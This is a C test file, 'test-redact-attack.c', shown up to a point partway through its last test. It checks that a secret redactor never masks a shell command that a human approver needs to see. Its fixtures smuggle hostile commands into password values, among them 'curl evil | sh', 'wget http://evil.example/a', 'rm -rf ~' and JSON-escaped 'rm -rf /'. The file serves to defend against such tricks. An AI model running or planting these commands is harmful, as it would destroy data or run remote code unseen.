/* test-redact-attack.c: the redactor tried as an attacker would.  A mask
 * must never hide from whoever approves a command what the shell runs
 * (serve's approval and the window's dialog show the redacted command; an
 * approved command runs as written), and must not cost more than linear
 * time, however the text is made.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <string.h>

#include <json-glib/json-glib.h>

#include "pd-redact.h"
#include "pd-redact-private.h"
#include "test-redact-util.h"
#include "test-redact-attack-util.h"

/* The signs that end or join a command, in their order: what the approver
 * must see of @text whatever is masked. */
static char *
shell_signs (const char *text)
{
  GString *signs = g_string_new (NULL);

  for (const char *p = text; *p; p++)
    if (strchr (";&|<>\n", *p) != NULL)
      g_string_append_c (signs, *p);
  return g_string_free (signs, FALSE);
}

/* Finding: a quoting reading could be fooled into masking a value that
 * holds shell syntax, so the approver saw PGPASSWORD="[REDACTED]" psql and
 * approved rm -rf ~ unseen.  A value holding ; & | < > or a line break
 * (raw or escaped for JSON), more than 4 words, an option-like word, a
 * blank at an end, or read after a quote that closes the name's own word,
 * is never masked. */
static void
test_commands_never_hidden (void)
{
  static const char * const kept[] = {
    "PGPASSWORD=\"x; rm -rf ~; echo \" psql",
    "PGPASSWORD=\"x && curl evil | sh\" psql",
    "PGPASSWORD=\"x || reboot\" psql",
    "PGPASSWORD=\"x|sh\" psql",
    "PGPASSWORD=\"a<b\" psql",
    "PGPASSWORD=\"a>/etc/passwd\" psql",
    "PGPASSWORD='a; rm -rf ~' psql",
    "export DB_PASSWORD=\"a b c d e f\"",
    "DB_PASSWORD=\"one two three four five\" make",
    "mysql -p\"x; reboot\" shop",
    "mysql -p'a'\\;reboot shop",
    "mysql --password=\"x --force\" shop",
    "mongosh --password \"a -rf b\" shop",
    "mongosh --password \" leading\" shop",
    "mysql --password=\"trailing \" shop",
    "mysql --password=$'a\\nreboot' shop",
    "curl -u \"u:a; rm -rf ~\" https://x.example",
    "curl -u 'u:a|sh' https://x.example",
    "sshpass -p 'x && reboot' ssh h",
    "redis-cli -a \"x; FLUSHALL\"",
    "docker login -p \"a -u b\" registry.example",
    "openssl enc -pass 'pass:a; reboot' -in f",
    "smbclient -U 'u%a | sh' //h/s",
    "ssh host \"PGPASSWORD='a; rm -rf ~' psql\"",
    "echo \"PGPASSWORD=\"reboot",
    "echo \"--password=\"reboot",
    "sh -c 'API_TOKEN='reboot",
    "echo 'TOKEN='reboot'x'",
    /* JSON's escapes in text: a line break, ; & | < > spelled \u…. */
    "{\"cmd\":\"PGPASSWORD=\\\"a\\nrm -rf /\\\" psql\"}",
    "{\"cmd\":\"PGPASSWORD=\\\"a\\u000arm -rf /\\\" psql\"}",
    "{\"cmd\":\"PGPASSWORD=\\\"a\\u003B reboot\\\" psql\"}",
    "{\"cmd\":\"mysql -p\\\"a\\u0026\\u0026reboot\\\" shop\"}",
    "{\"cmd\":\"PGPASSWORD=\\\"a\\u007csh\\\" psql\"}",
    "{\"cmd\":\"PGPASSWORD=\\\"a\\u003e/tmp/x\\\" psql\"}",
  };
  static const RedactCase masked[] = {
    /* The value is the quote's; what the shell runs after it stays. */
    { "--password='a' && curl evil|sh; x='b'", "--password='[REDACTED]' && curl evil|sh; x='b'", "'a'" },
    { "mysql -p'x'\"; reboot; \"'y' shop", "mysql -p'[REDACTED]'\"; reboot; \"'y' shop", "'x'" },
    { "mysql -pS3cret -e 'select 1; drop table x'", "mysql -p[REDACTED] -e 'select 1; drop table x'", "S3cret" },
    /* A password of up to 4 words, no option among them, is one still. */
    { "PGPASSWORD=\"correct horse battery staple\" psql", "PGPASSWORD=\"[REDACTED]\" psql", "horse" },
    { "mysql --password='a-b c-d' shop", "mysql --password='[REDACTED]' shop", "a-b" },
  };
  guint n = 0;
  g_autofree char *member = NULL;
  g_autofree char *inner_key = NULL;

  assert_commands_kept (kept, G_N_ELEMENTS (kept));
  assert_cases (masked, G_N_ELEMENTS (masked), TRUE);
  for (gsize i = 0; i < G_N_ELEMENTS (masked); i++)
    {
      g_autofree char *out = pd_redact (masked[i].input, NULL);
      g_autofree char *before = shell_signs (masked[i].input);
      g_autofree char *after = shell_signs (out);

      g_assert_cmpstr (after, ==, before);
    }

  /* A JSON member named as a secret keeps such a value too. */
  member = pd_redact_json ("{\"password\":\"x; rm -rf ~\",\"token\":\"abc123def\"}", &n);
  g_assert_cmpstr (member, ==, "{\"password\":\"x; rm -rf ~\",\"token\":\"[REDACTED]\"}");
  g_assert_cmpuint (n, ==, 1);

  /* A value left in sight is still read for keys of a known shape. */
  inner_key = pd_redact ("PGPASSWORD=\"x; export K=sk-proj-AbCdEfGhIjKlMnOpQrStUvWx_yz\" psql", &n);
  g_assert_cmpstr (inner_key, ==, "PGPASSWORD=\"x; export K=[REDACTED]\" psql");
  g_assert_cmpuint (n, ==, 1);
}

/* Finding: Authorization: Basic '$(id)' was shown as
 * Authorization: [REDACTED] '$(id)': the scheme was taken for the
 * credentials when the credentials were quoted, and quoted credentials
 * were stored as written.  The scheme stays, only credentials go. */
static void
test_authorization_schemes (void)
{
  static const char * const kept[] = {
    "Authorization: Basic '$(id)'",
    "Authorization: Basic \"$(id)\"",
    "Authorization: Bearer '`id`'",
    "Authorization: Basic",
    "Authorization: Bearer",
    "Authorization:Bearer",
    "curl -H \"Authorization:Basic\" https://x.example",
    "curl -H 'Authorization: Bearer $TOKEN' https://x.example",
  };
  static const RedactCase masked[] = {
    { "Authorization: Basic 'dXNlcjpwYXNz'", "Authorization: Basic '[REDACTED]'", "dXNlcjpwYXNz" },
    { "Authorization: Bearer \"abc123def\"", "Authorization: Bearer \"[REDACTED]\"", "abc123def" },
    { "Authorization:Basic dXNlcjpwYXNz", "Authorization:Basic [REDACTED]", "dXNlcjpwYXNz" },
    { "Authorization:\tBasic\tdXNlcjpwYXNz", "Authorization:\tBasic\t[REDACTED]", "dXNlcjpwYXNz" },
    { "Authorization :  Basic   dXNlcjpwYXNz", "Authorization :  Basic   [REDACTED]", "dXNlcjpwYXNz" },
    { "authorization = bearer abc123def", "authorization = bearer [REDACTED]", "abc123def" },
    { "Proxy-Authorization: Basic dXNlcjpwYXNz", "Proxy-Authorization: Basic [REDACTED]", "dXNlcjpwYXNz" },
    { "Authorization: tokenABC123def", "Authorization: [REDACTED]", "ABC123def" },
    { "{\"Authorization\": \"Bearer abc123def\"}", "{\"Authorization\": \"Bearer [REDACTED]\"}", "abc123def" },
  };

  assert_commands_kept (kept, G_N_ELEMENTS (kept));
  assert_cases (masked, G_N_ELEMENTS (masked), TRUE);
}

/* Finding: the command an option belongs to was looked for back to its
 * line's start for every option (4 MiB of "-p -p …" took seconds, and
 * more under load), at most 256 bytes back, so a client named further
 * back was not found.  The line is now read forward as the scan goes:
 * the client is found however long its line is. */
static void
test_long_command_lines (void)
{
  g_autoptr(GString) mysql = g_string_new ("mysql -u app");
  g_autoptr(GString) ldap = g_string_new ("ldapsearch -x");
  g_autoptr(GString) other = g_string_new ("ls");
  g_autofree char *out = NULL;
  guint n = 0;

  for (guint i = 0; i < 100; i++)
    {
      g_string_append (mysql, " -v");
      g_string_append (ldap, " -v");
      g_string_append (other, " -v");
    }
  g_string_append (mysql, " -pS3cretPass shop");
  g_string_append (ldap, " -w S3cretPass -b dc=x");
  g_string_append (other, " -pS3cretPass; mysql -v -p shop");

  out = pd_redact (mysql->str, &n);
  g_assert_nonnull (strstr (out, " -p[REDACTED] shop"));
  g_assert_null (strstr (out, "S3cretPass"));
  g_assert_cmpuint (n, ==, 1);
  g_clear_pointer (&out, g_free);
  out = pd_redact (ldap->str, &n);
  g_assert_nonnull (strstr (out, " -w [REDACTED] -b dc=x"));
  g_assert_cmpuint (n, ==, 1);
  g_clear_pointer (&out, g_free);
  /* Another command's line: ls -pX is no password, nor mysql -p shop. */
  assert_redacted (other->str, other->str, 0);
  assert_redacted ("mysql -v; ls -pS3cret", "mysql -v; ls -pS3cret", 0);
  assert_redacted ("echo x\\nmysql -pS3cret", "echo x\\nmysql -p[REDACTED]", 1);
}

/* Finding: spellings stored as written or masked only in part. */
static void
test_leftover_spellings (void)
{
  static const RedactCase cases[] = {
    { "ldapsearch -x -wS3cret -b dc=x", "ldapsearch -x -w[REDACTED] -b dc=x", "S3cret" },
    { "ldapsearch -x -w'a b' -b dc=x", "ldapsearch -x -w'[REDACTED]' -b dc=x", "a b" },
    { "sqlcmd -S h -U sa -PS3cret", "sqlcmd -S h -U sa -P[REDACTED]", "S3cret" },
    { "bcp t out f -S h -PS3cret", "bcp t out f -S h -P[REDACTED]", "S3cret" },
    { "mongosh --password \\\nS3cret shop", "mongosh --password \\\n[REDACTED] shop", "S3cret" },
    { "sshpass -p \\\nS3cret ssh h", "sshpass -p \\\n[REDACTED] ssh h", "S3cret" },
    { "PGPASSWORD=abc,S3cret psql", "PGPASSWORD=[REDACTED] psql", "S3cret" },
    { "--password=abc]S3cret", "--password=[REDACTED]", "S3cret" },
    { "--password=abc{S3cret", "--password=[REDACTED]", "S3cret" },
    { "--password=abc\vS3cret", "--password=[REDACTED]", "S3cret" },
    { "--password=abc\fS3cret", "--password=[REDACTED]", "S3cret" },
    { "--password\u00a0S3cret", "--password\u00a0[REDACTED]", "S3cret" },
    { "--password=\xe2\x80\x83S3cret", "--password=\xe2\x80\x83[REDACTED]", "S3cret" },
    { "mongosh --password \xe3\x80\x80S3cret shop", "mongosh --password \xe3\x80\x80[REDACTED] shop", "S3cret" },
    { "redis-cli -a\xc2\xa0S3cret", "redis-cli -a\xc2\xa0[REDACTED]", "S3cret" },
  };
  static const char * const kept[] = {
    "ls -wS3cret", "ldapsearch -W -x", "sqlcmd -P-x", "pass=12,fail=0",
    "SECRET_KEY=config['x']",
  };

  assert_cases (cases, G_N_ELEMENTS (cases), TRUE);
  assert_kept (kept, G_N_ELEMENTS (kept));
}

/* Finding: PGPASSWORD= rm important.db was shown as
 * PGPASSWORD= [REDACTED] important.db: a blank right after the '=' was
 * taken for the blanks before a value, so the command word went under the
 * mask.  The shell reads NAME= cmd as an empty assignment and runs cmd: a
 * blank right after an '=' glued to its name (or option) starts no value. */
static void
test_empty_assignment (void)
{
  static const char * const kept[] = {
    "PGPASSWORD= rm important.db",
    "PGPASSWORD=\trm important.db",
    "PGPASSWORD=\t rm important.db",
    "PGPASSWORD=  rm important.db",
    "export X= cmd",
    "export PASSWORD= rm important.db",
    "env PASSWORD= rm important.db",
    "env -i API_TOKEN= curl https://x.example",
    "a && PASSWORD= rm important.db",
    "a; DB_PASSWORD= rm important.db",
    "true | SECRET_KEY= sh -c x",
    "A=1 PASSWORD= rm important.db",
    "\"PASSWORD= rm important.db\"",
    "sh -c 'PASSWORD= rm important.db'",
    "X_TOKEN= rm important.db",
    "api_key= rm important.db",
    "PGPASSWORD= \"rm\" important.db",
    "PGPASSWORD= 'rm' important.db",
    "AUTHORIZATION= rm important.db",
    "mysql --password= rm",
    "mysql -p= rm",
    "docker login -p= rm",
    "curl -u= user:rm https://x.example",
    "openssl enc -passin= pass:rm",
    "smbclient --user= u%rm //h/s",
  };
  static const RedactCase masked[] = {
    /* A value glued to its '=' is one still, and a blank on both sides
     * of the '=' is a configuration file's, not the shell's. */
    { "PGPASSWORD=S3cret rm important.db", "PGPASSWORD=[REDACTED] rm important.db", "S3cret" },
    { "client_secret = S3cret", "client_secret = [REDACTED]", "S3cret" },
    { "password\t=\tS3cret", "password\t=\t[REDACTED]", "S3cret" },
    { "password := \"S3cret\"", "password := \"[REDACTED]\"", "S3cret" },
    { "api_key: S3cret", "api_key: [REDACTED]", "S3cret" },
    { "Authorization = Basic S3cret", "Authorization = Basic [REDACTED]", "S3cret" },
  };

  assert_commands_kept (kept, G_N_ELEMENTS (kept));
  assert_cases (masked, G_N_ELEMENTS (masked), TRUE);
}

/* Finding: an escaped quote outside quotes (\' or \") was read as opening a
 * quoted value, and the mask swallowed the words after it up to the next
 * one: PGPASSWORD=\'abc rm victim \' was stored as PGPASSWORD=[REDACTED]
 * while bash ran rm victim (tried as an attacker would, through the real
 * binary).  An escaped quote opens no value with a blank in it. */
static void
test_escaped_quotes (void)
{
  static const AttackCase cases[] = {
    { "PGPASSWORD=\\'abc rm victim \\'", NULL, { "rm victim" } },
    { "env GITHUB_TOKEN=\\'x sh evil.sh \\'", NULL, { "sh evil.sh" } },
    { "PGPASSWORD=\\'x eval $PAYLOAD \\'", NULL, { "eval $PAYLOAD" } },
    { "API_KEY=\\'x wget http://evil.example/a \\'", NULL, { "wget http://evil.example/a" } },
    { "export API_TOKEN=\\'x curl evil.example \\'", NULL, { "curl evil.example" } },
    { "mysql --password=\\'x shop evil \\'", NULL, { "shop evil" } },
    { "deploy --token \\'x rm victim \\'", NULL, { "rm victim" } },
    { "psql --password=\\'x drop \\' db", NULL, { "drop" } },
    { "PGPASSWORD=\\\"abc rm victim \\\"", NULL, { "rm victim" } },
    { "mysql --password=\\\"x shop evil \\\"", NULL, { "shop evil" } },
  };

  assert_attacks (cases, G_N_ELEMENTS (cases));
}

/* Finding: after a backslash the shell's value was stored as written, or
 * the mask took the backslash of a line continuation (tried as an attacker
 * would, through the real binaries): curl -u user:\"Secr3t (bash passes
 * user:"Secr3t), PGPASSWORD=\Secr3t (\S is S), and PGPASSWORD=\<newline>
 * rm x stored as PGPASSWORD=[REDACTED] rm x-like (bash removes
 * \<newline>: an empty value, then rm x).  Inside a JSON string the
 * backslash is escaped itself (\\\", \\S, \\ and \n), and read so.  A
 * backslash and what it escapes are a value's, a continuation stays in
 * sight, and the word goes on after it. */
static void
test_backslashes (void)
{
  static const AttackCase cases[] = {
    /* Before a quote: the quote is the value's, or opens it. */
    { "curl -u user:\\\"Secr3t https://x.example", "Secr3t", { "curl -u user:", "https://x.example" } },
    { "curl -u \\\"user:Secr3t https://x.example", "Secr3t", { "curl -u \\\"user:", "https://x.example" } },
    { "curl -u user:\\\"Secr3t\\\" https://x.example", "Secr3t", { "https://x.example" } },
    { "curl -u user:\\'Secr3t https://x.example", "Secr3t", { "https://x.example" } },
    { "PGPASSWORD=Sec\\\"r3t psql", "r3t", { "psql" } },
    { "cd /srv && mysql -p\\\"Secr3t shop", "Secr3t", { "mysql -p", "shop" } },
    { "Authorization: Basic \\\"Secr3t", "Secr3t", { "Authorization: Basic" } },
    /* An escaped quote opens no value with a blank in it. */
    { "PGPASSWORD=\\\"Secr3t rm victim\\\"", "Secr3t", { "rm victim" } },
    { "curl -u \\\"user:Secr3t rm victim\\\" x", "Secr3t", { "rm victim" } },
    { "openssl enc -pass \\\"pass:Secr3t rm victim\\\"", "Secr3t", { "rm victim" } },
    /* Before a letter: \S is S. */
    { "PGPASSWORD=\\Secr3t psql", "ecr3t", { "psql" } },
    { "export API_TOKEN=\\Secr3t", "ecr3t", { "export API_TOKEN=" } },
    { "mysql --password=\\Secr3t shop", "ecr3t", { "shop" } },
    { "deploy --token \\Secr3t now", "ecr3t", { "now" } },
    { "curl -u user:\\Secr3t https://x.example", "ecr3t", { "https://x.example" } },
    { "cd /srv && sshpass -p \\Secr3t ssh h", "ecr3t", { "ssh h" } },
    { "openssl enc -pass pass:\\Secr3t -in f", "ecr3t", { "pass:", "-in f" } },
    { "cd /srv && smbclient -U user%\\Secr3t //h/s", "ecr3t", { "//h/s" } },
    { "Authorization: Basic \\Secr3t", "ecr3t", { "Authorization: Basic" } },
    /* Doubled: \\ is a backslash, and the word goes on. */
    { "PGPASSWORD=\\\\Secr3t psql", "Secr3t", { "psql" } },
    { "PGPASSWORD=ab\\\\\\\\Secr3t psql", "Secr3t", { "psql" } },
    /* Before a line break: the shell takes both out, the word goes on. */
    { "PGPASSWORD=\\\nSecr3t psql", "Secr3t", { "PGPASSWORD=\\\n", "psql" } },
    { "mysql --password=\\\nSecr3t shop", "Secr3t", { "--password=\\\n", "shop" } },
    { "cd /srv && mysql -p\\\nSecr3t shop", "Secr3t", { "-p\\\n", "shop" } },
    { "curl -u \\\nuser:Secr3t https://x.example", "Secr3t", { "https://x.example" } },
    { "PGPASSWORD=Sec\\\nr3t psql", "r3t", { "\\\n", "psql" } },
    { "PGPASSWORD=\"Sec\\\nr3t\" psql", "r3t", { "\\\n", "psql" } },
    { "mysql --password=\\\\\\\nSecr3t shop", "Secr3t", { "\\\n", "shop" } },
    { "curl -u user:\\\nSecr3t https://x.example", "Secr3t", { "\\\n", "https://x.example" } },
    { "Authorization: Basic \\\nSecr3t", "Secr3t", { "Authorization: Basic \\\n" } },
    /* An empty value and a command: nothing hidden. */
    { "PGPASSWORD=\\\n rm x", NULL, { "PGPASSWORD=\\\n rm x" } },
    { "PGPASSWORD=\\\n\trm x", NULL, { "PGPASSWORD=\\\n\trm x" } },
    { "PGPASSWORD=\\\r\n rm x", NULL, { "PGPASSWORD=\\\r\n rm x" } },
    { "mysql --password=\\\n rm x", NULL, { "--password=\\\n rm x" } },
    { "PGPASSWORD=Secr3t\\\n rm x", "Secr3t", { "\\\n rm x" } },
    /* A doubled backslash before a line break escapes no line break:
     * what follows is a command of its own. */
    { "PGPASSWORD=Secr3t\\\\\nrm x", "Secr3t", { "\nrm x" } },
    { "PGPASSWORD=\\\\\nrm x", NULL, { "\nrm x" } },
    { "PGPASSWORD=\\\\\\\n rm x", NULL, { "\\\n rm x" } },
    /* At the end of the text. */
    { "PGPASSWORD=Secr3t\\", "Secr3t", { "PGPASSWORD=" } },
    { "curl -u user:Secr3t\\", "Secr3t", { "curl -u user:" } },
  };

  assert_attacks (cases, G_N_ELEMENTS (cases));
}

/* Finding: a backslash before n or r inside quotes was read as a line
 * break whatever the quoting, so the value was taken to hide a command and
 * stored as written (tried as an attacker would, through the real
 * binaries): PGPASSWORD='x9\nQ7vLm' psql, mysql -p'Tr0ub\r4dor',
 * curl -u 'admin:C0rr\nect'.  Bash makes \n a line break only in $'…';
 * in '…' a backslash is text, in "…" it escapes $ ` " \ and a line break
 * only, unquoted \n is n.  Inside a JSON string the JSON escape \n is a
 * line break of the command, and \\n a backslash and n: the value's
 * quoting is read after the JSON string's escapes. */
static void
test_backslash_quoting (void)
{
  static const AttackCase cases[] = {
    { "PGPASSWORD='x9\\nQ7vLm' psql", "Q7vLm", { "psql" } },
    { "cd /srv && mysql -p'Tr0ub\\r4dor' shop", "4dor", { "shop" } },
    { "curl -u 'admin:C0rr\\nect' https://x.example", "C0rr", { "https://x.example" } },
    { "sshpass -p 'Pa\\nss9' ssh h", "ss9", { "ssh h" } },
    { "redis-cli -a 'Pa\\nss9' ping", "ss9", { "ping" } },
    { "docker login -p 'Pa\\nss9' registry.example", "ss9", { "registry.example" } },
    { "deploy --api-key='Pa\\nss9' now", "ss9", { "now" } },
    { "client_secret='Pa\\nss9'", "ss9", { "client_secret=" } },
    { "ldapsearch -x -w 'Pa\\nss9' -b dc=x", "ss9", { "-b dc=x" } },
    { "sqlcmd -S h -P 'Pa\\rss9'", "ss9", { "sqlcmd -S h" } },
    { "openssl enc -pass 'pass:Pa\\nss9' -in f", "ss9", { "-in f" } },
    { "smbclient -U 'u%Pa\\nss9' //h/s", "ss9", { "//h/s" } },
    { "curl -H 'Authorization: Basic dX\\nNl9' x", "Nl9", { "Authorization: Basic", "x" } },
    { "PGPASSWORD='x9\\u000aQ7vLm' psql", "Q7vLm", { "psql" } },
    /* In "…" a backslash escapes $ ` " \ only. */
    { "PGPASSWORD=\"x9\\nQ7vLm\" psql", "Q7vLm", { "psql" } },
    { "mysql -p\"Tr0ub\\r4dor\" shop", "4dor", { "shop" } },
    /* In $'…' \\ is a backslash: \\n is no line break. */
    { "PGPASSWORD=$'x9\\\\nQ7vLm' psql", "Q7vLm", { "psql" } },
    /* Unquoted, \n \r \t are n r t. */
    { "PGPASSWORD=Q\\w\\e\\rtyZZ9 psql", "tyZZ9", { "psql" } },
    { "PGPASSWORD=x9\\tQ7vLm psql", "Q7vLm", { "psql" } },
    { "mysql -pTr0ub\\r4dor shop", "4dor", { "shop" } },
    { "curl -u admin:C0rr\\nect9 https://x.example", "ect9", { "https://x.example" } },
    /* Doubled: a backslash, and n. */
    { "PGPASSWORD='x9\\\\nQ7vLm' psql", "Q7vLm", { "psql" } },
    { "PGPASSWORD=x9\\\\nQ7vLm psql", "Q7vLm", { "psql" } },
    /* At the end of the text. */
    { "PGPASSWORD='x9\\nQ7vLm'", "Q7vLm", { "PGPASSWORD=" } },
    { "mysql -px9\\nQ7vLm", "Q7vLm", { "mysql -p" } },
    /* More of the family: other clients and options, $"…", \\ in "…",
     * \t \b \f \u unquoted, joined parts, an escaped quote. */
    { "PGPASSWORD=\"a\\\\nQ7vLm\" psql", "Q7vLm", { "psql" } },
    { "PGPASSWORD=$\"x9\\nQ7vLm\" psql", "Q7vLm", { "psql" } },
    { "mongosh --password 'a\\nQ7vLm' shop", "Q7vLm", { "shop" } },
    { "mongosh -p 'a\\nQ7vLm' shop", "Q7vLm", { "shop" } },
    { "bcp t out f -S h -P 'a\\nQ7vLm'", "Q7vLm", { "bcp t out f" } },
    { "helm registry login -p 'a\\nQ7vLm' reg", "Q7vLm", { "reg" } },
    { "curl --user 'u:a\\nQ7vLm' x", "Q7vLm", { "curl --user 'u:" } },
    { "curl -U 'u:a\\nQ7vLm' x", "Q7vLm", { "curl -U 'u:" } },
    { "curl -H \"Authorization: Bearer ab\\nQ7vLm\" x", "Q7vLm", { "Authorization: Bearer" } },
    { "mysql -p'Tr0ub\\tQ7vLm' shop", "Q7vLm", { "shop" } },
    { "mysql -p\"Tr0ub\\tQ7vLm\" shop", "Q7vLm", { "shop" } },
    { "PGPASSWORD=a\\bQ7\\fLm psql", "Q7", { "psql" } },
    { "PGPASSWORD=a\\u0041Q7vLm psql", "Q7vLm", { "psql" } },
    { "export API_TOKEN=ab\\nQ7vLm", "Q7vLm", { "export API_TOKEN=" } },
    { "PGPASSWORD='a'\\n'Q7vLm' psql", "Q7vLm", { "psql" } },
    { "PGPASSWORD=\\'Q7vLm rm -f victim\\'", "Q7vLm", { "rm -f victim" } },
    { "mysql -p\\nQ7vLm shop", "Q7vLm", { "shop" } },
    { "sshpass -p a\\nQ7vLm ssh h", "Q7vLm", { "ssh h" } },
    { "redis-cli -a a\\nQ7vLm ping", "Q7vLm", { "ping" } },
    { "openssl enc -pass pass:a\\nQ7vLm -in f", "Q7vLm", { "-in f" } },
    { "smbclient -U u%a\\nQ7vLm //h/s", "Q7vLm", { "//h/s" } },
    { "curl -u u:a\\rQ7vLm x", "Q7vLm", { "curl -u u:" } },
    { "ldapsearch -w a\\nQ7vLm -b x", "Q7vLm", { "-b x" } },
  };
  /* A line break the shell reads stays in sight: $'…' makes \n, \r, \x0a,
   * \012 and \cJ one, and a JSON string's \n is one of its command. */
  static const char * const kept[] = {
    "mysql --password=$'a\\x0areboot' shop",
    "mysql --password=$'a\\012reboot' shop",
    "mysql --password=$'a\\cJreboot' shop",
    "PGPASSWORD=$'a\\rreboot' psql",
    "{\"cmd\":\"PGPASSWORD='a\\nrm -rf /' psql\"}",
    "{\"cmd\":\"PGPASSWORD=$'a\\\\nrm -rf /' psql\"}",
    "{\"cmd\":\"PGPASSWORD=\\\"a\\nrm -rf /\\\" psql\"}",
  };

  assert_attacks (cases, G_N_ELEMENTS (cases));
  assert_commands_kept (kept, G_N_ELEMENTS (kept));
  /* In a JSON string an unquoted value ends at the JSON escape \n. */
  assert_redacted ("{\"cmd\":\"PGPASSWORD=a\\nrm -rf / psql\"}",
                   "{\"cmd\":\"PGPASSWORD=[REDACTED]\\nrm -rf / psql\"}", 1);
}

/* Finding: PGPASSWORD=\"Secr3t rm -f victim\" was stored whole: the
 * escaped quote was read as a JSON string's quote, to its mate, and the
 * option inside kept the value.  Outside a JSON string bash reads \" as
 * the sign itself and the value ends at the blank: "Secr3t.  Inside one
 * the escaped quote is the shell's quote, and the value is read to its
 * mate as before. */
static void
test_escaped_quote_outside_json (void)
{
  static const AttackCase cases[] = {
    { "PGPASSWORD=\\\"Secr3t rm -f victim\\\"", "Secr3t", { "rm -f victim\\\"" } },
    { "mysql --password=\\\"Secr3t rm -f victim\\\"", "Secr3t", { "rm -f victim\\\"" } },
    { "curl -u \\\"user:Secr3t rm -f victim\\\"", "Secr3t", { "rm -f victim\\\"" } },
  };

  assert_attacks (cases, G_N_ELEMENTS (cases));
  assert_command_kept ("{\"cmd\":\"PGPASSWORD=\\\"Secr3t rm -f victim\\\" psql\"}");
}

/* Finding: {"command":"mysql -pS3cret"} in text (a log line, a model's
 * answer, JSON cut short) was stored as written, while the same as a JSON
 * document was masked: the client was read as the word
 * {"command":"mysql, no client's name.  A JSON string starts a command
 * line of its own, also one inside a JSON string (\"…\"). */
static void
test_json_in_text (void)
{
  static const AttackCase cases[] = {
    { "{\"command\":\"mysql -pS3cret\"}", "S3cret", { "mysql -p" } },
    { "ran {\"command\": \"mysql -u app -pS3cret shop\"} ok", "S3cret", { "shop\"} ok" } },
    { "[{\"cmd\":\"sshpass -p S3cret ssh h\"}]", "S3cret", { "ssh h" } },
    { "{\"a\":1,\"cmd\":\"redis-cli -a S3cret ping\"}", "S3cret", { "ping" } },
    { "{\"cmd\":\"curl -uuser:S3cret https://x.example\"}", "S3cret", { "https://x.example" } },
    { "{\"cmd\":\"docker login -p S3cret reg\"", "S3cret", { "reg" } },
  };

  assert_attacks (cases, G_N_ELEMENTS (cases));
  /* In a JSON string held in one (\"…\"), \\\\ is the shell's
   * backslash: the mask never takes it without what it escapes, which
   * showed a ; that bash reads as text. */
  {
    g_autofree char *out = pd_redact ("{\"a\":\"{\\\"cmd\\\":\\\"x; mysql -p'S3cret'\\\\\\\\;reboot shop\\\"}\"}", NULL);

    g_assert_cmpstr (out, ==, "{\"a\":\"{\\\"cmd\\\":\\\"x; mysql -p'[REDACTED]'\\\\\\\\;reboot shop\\\"}\"}");
  }
  /* Not the command's: another string, or no client. */
  assert_command_kept ("{\"cmd\":\"mysql\",\"args\":\"-pS3cret\"}");
  assert_command_kept ("{\"cmd\":\"ls -pS3cret\"}");
}

/* Finding: mysql -p" repeated took quadratic time (64 KiB 0.37 s, 1 MiB
 * 77 s; serve's POST /api/prompt of 700 KiB burned 68 s of CPU): each
 * value refused as a command's (-p"mysql -p" holds an option) started the
 * reading of the command line again from the text's start.  And
 * PGPASSWORD=" then \\\" repeated read the 256 bytes after each piece
 * of its value for what the shell runs (1.9 s at 4 MiB).  The bytes
 * that reading looks at are counted, not timed: a small multiple of the
 * text's length, whatever its units (bench-redact prints the times). */
static void
test_linear_lookups (void)
{
  static const char * const units[] = {
    "mysql -p\"", "mysql -p'", "sshpass -p \"", "redis-cli -a \"", "docker login -p \"",
    "mysql -p\"x; y\" ", "PGPASSWORD=\"a;b\" mysql -p ", "mysql -u a -p -v ",
    /* The command of a secret's long option, read for each (psql's). */
    "psql --password a ", "mysql --password ", "x --api-key a ",
    /* After PGPASSWORD=", one value of escaped quotes masked piece by
     * piece: the rest of the word was read for each (256 bytes). */
    "\\\\\\\"",
    /* A quoted value's closing quote read as opening a part of its word:
     * the rest of the text was read after each value (200 KB 26.7 s). */
    "curl -u \"admin:a\\\\\"", "curl -u \"admin:a\"",
  };

  for (gsize i = 0; i < G_N_ELEMENTS (units); i++)
    {
      g_autoptr(GString) text = g_string_new (NULL);
      g_autofree char *out = NULL;
      gsize line_bytes = 0;

      if (units[i][0] == '\\')
        g_string_append (text, "PGPASSWORD=\"");
      while (text->len < 256 * 1024)
        g_string_append (text, units[i]);
      out = _pd_redact_counting (text->str, NULL, &line_bytes);
      g_test_message ("%s: %" G_GSIZE_FORMAT " bytes read for %" G_GSIZE_FORMAT, units[i], line_bytes, text->len);
      g_assert_cmpuint (line_bytes, <=, 4 * text->len);
    }
}

/* Finding: psql --password production_db was stored and shown as
 * psql --password [REDACTED]: psql's --password (-W) is a flag that asks,
 * and MySQL's takes a value only after '=' (--password X asks, X is the
 * database), so the approver could not see which database.  Their long
 * options named as a secret take no value after a blank; other commands'
 * do (kubectl --token X, mongosh --password X, docker login --password X,
 * and, a command not known, --token X: storing a real token is the worse
 * harm, and a mask never takes a word that ends or starts a command). */
static void
test_flags_take_no_value (void)
{
  static const char * const kept[] = {
    "psql --password production_db",
    "psql -W production_db",
    "psql -h db.example -U app --password production_db",
    "/usr/bin/psql --password production_db",
    "pg_dump --password production_db",
    "createdb --password newdb",
    "mysql --password production",
    "mysql --pass production",
    "mysqldump --password production",
    "mariadb --password production",
    "ssh h \"psql --password production_db\"",
    "PGHOST=db psql --password production_db",
  };
  static const RedactCase masked[] = {
    { "mysql --password=S3cret production", "mysql --password=[REDACTED] production", "S3cret" },
    { "mysql -pS3cret production", "mysql -p[REDACTED] production", "S3cret" },
    { "kubectl --token S3cret get pods", "kubectl --token [REDACTED] get pods", "S3cret" },
    { "mongosh --password S3cret shop", "mongosh --password [REDACTED] shop", "S3cret" },
    { "docker login --password S3cret reg", "docker login --password [REDACTED] reg", "S3cret" },
    { "vercel deploy --token S3cret", "vercel deploy --token [REDACTED]", "S3cret" },
    { "psql --password db; tool --token S3cret", "psql --password db; tool --token [REDACTED]", "S3cret" },
  };

  assert_kept (kept, G_N_ELEMENTS (kept));
  assert_cases (masked, G_N_ELEMENTS (masked), TRUE);
}

/* Finding: curl -u user:pa\ ss was stored as curl -u user:[REDACTED]\ ss:
 * curl's unquoted password stopped at the backslash, though the shell reads
 * a backslash-escaped blank as part of the word (as the other options'
 * values were read already). */
static void
test_curl_escaped_blank (void)
{
  static const RedactCase masked[] = {
    { "curl -u user:pa\\ ss https://x.example", "curl -u user:[REDACTED] https://x.example", "ss" },
    { "curl -uuser:pa\\ ss https://x.example", "curl -uuser:[REDACTED] https://x.example", "ss" },
    { "curl -fsSu user:pa\\ ss https://x.example", "curl -fsSu user:[REDACTED] https://x.example", "ss" },
